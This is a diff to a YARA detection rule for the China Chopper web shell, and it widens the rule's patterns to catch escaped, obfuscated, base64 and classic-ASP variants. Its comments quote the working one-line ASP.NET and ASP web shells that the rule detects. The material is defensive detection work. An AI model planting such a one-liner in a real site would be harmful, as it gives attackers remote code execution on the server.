@@ -1,12 +1,24 @@
-// EXH-FILE-0001: the China Chopper server side in ASP.NET pages.
+// EXH-FILE-0001: the China Chopper server side in its plain forms.
 //
 // JScript form: eval() of a request value with the "unsafe" option, e.g. the one-liner
 //   <%@ Page Language="Jscript"%><%eval(Request.Item["<password>"],"unsafe");%>
-// as written by hand, by CVE-2021-27065's OAB export (inside <script runat="server">), or behind a GIF89a header.
-// Droppers that split the one-liner into concatenated strings still keep `eval(Request.Item` and `unsafe` within a
-// few dozen bytes of each other on one line ($eval_near).
+// as written by hand, by CVE-2021-27065's OAB export (inside <script runat="server">), behind a GIF89a header, in an
+// XSLT msxsl:script block, or by a dropper. The traits, from the public write-ups (Mandiant's "Breaking Down the
+// China Chopper Web Shell", CISA AR21-084A, Microsoft's HAFNIUM post):
+//   - eval(<request value>, "unsafe"): JScript.NET's eval only reaches the .NET class library with "unsafe", and the
+//     request value may be reached as Request[..], Request.Item[..], Request.Form(..), HttpContext.Current.Request…;
+//   - the "unsafe" option hex- or unicode-escaped ("\x75\x6e…"), which JScript string literals allow;
+//   - eval(<any expression>, "unsafe") where the expression is a variable or a string-table lookup
+//     (javascript-obfuscator output, `eval(Request[_0x3f2a[0]], _0x3f2a[1])` keeps `eval(Request[`);
+//   - droppers that split the one-liner into concatenated strings still keep `eval(Request.Item` and `unsafe` within a
+//     few dozen bytes on one line ($eval_near); droppers that carry it base64-encoded keep the encoded text of
+//     `eval(Request` and of the quoted `unsafe` ($b64_*: every alignment).
+// Classic ASP form (VBScript; the China Chopper ASP server): <%eval request("x")%>, <%execute request("x")%>.
 // C# form (HAFNIUM, CISA AR21-084A): a page that opens a StreamWriter on a path from Request.Form and writes another
 // Request.Form value into it.
+//
+// W3C and Exchange logs (first line `#Software: Microsoft…`) are left out: a logged exploitation request carries the
+// one-liner but is not a shell (the log rules report it).
 rule EXH_China_Chopper_ASPX
 {
     meta:
@@ -14,12 +26,26 @@ rule EXH_China_Chopper_ASPX
         exhunt_rule = "EXH-FILE-0001"
 
     strings:
-        $eval_index = /eval\s*\(\s*Request\s*(\.\s*(Item|Form|QueryString)\s*)?\[[^\]\r\n]{1,100}\]\s*,\s*["']unsafe["']/ nocase
-        $eval_call = /eval\s*\(\s*Request\s*\.\s*(Item|Form|QueryString)\s*\(\s*["'][^"'\r\n]{1,100}["']\s*\)\s*,\s*["']unsafe["']/ nocase
-        $eval_near = /eval\s*\(\s*Request\s*\.\s*(Item|Form|QueryString)[^\r\n;]{0,60}unsafe/ nocase
+        $eval_index = /eval\s*\(\s*((HttpContext\.Current|Context|this|Page)\s*\.\s*)?Request\s*(\.\s*(Item|Form|QueryString|Params)\s*)?\[[^\]\r\n]{1,100}\]\s*,\s*["']unsafe["']/ nocase
+        $eval_call = /eval\s*\(\s*((HttpContext\.Current|Context|this|Page)\s*\.\s*)?Request\s*\.\s*(Item|Form|QueryString|Params)\s*(\.\s*Get\s*)?\(\s*["'][^"'\r\n]{1,100}["']\s*\)\s*,\s*["']unsafe["']/ nocase
+        $eval_near = /eval\s*\(\s*Request\s*\.\s*(Item|Form|QueryString|Params)[^\r\n;]{0,60}unsafe/ nocase
+        $eval_esc = /eval\s*\(\s*Request[^;\r\n]{1,120},\s*["'](\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|[a-z]){0,5}(\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4})(\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|[a-z]){0,5}["']/
+        $eval_expr = /eval\s*\([^;\r\n]{1,160},\s*["']unsafe["']\s*\)/
+        $eval_table = /eval\s*\(\s*Request\s*(\.\s*Item\s*)?\[\s*_0x[0-9a-f]{2,8}/
+        $asp_eval = /<%\s*(eval|execute|executeglobal)\s*\(?\s*request\s*(\.\s*(item|form|querystring)\s*)?\(/ nocase
+        $b64_eval = "eval(Request" base64
+        $b64_unsafe1 = "\"unsafe\")" base64
+        $b64_unsafe2 = "'unsafe')" base64
         $cs_writer = /new\s+System\.IO\.StreamWriter\s*\(\s*Request\.Form\s*\[[^\]\r\n]{1,100}\]/ nocase
         $cs_write = /\.Write\s*\(\s*Request\.Form\s*\[[^\]\r\n]{1,100}\]\s*\)/ nocase
 
     condition:
-        filesize < 300KB and (any of ($eval_*) or ($cs_writer and $cs_write))
+        filesize < 1MB
+        and not (uint32be(0) == 0x23536F66 and uint32be(4) == 0x74776172)   // "#Software:" (W3C / Exchange log)
+        and (
+            any of ($eval_*)
+            or $asp_eval
+            or ($b64_eval and any of ($b64_unsafe*))
+            or ($cs_writer and $cs_write)
+        )
 }
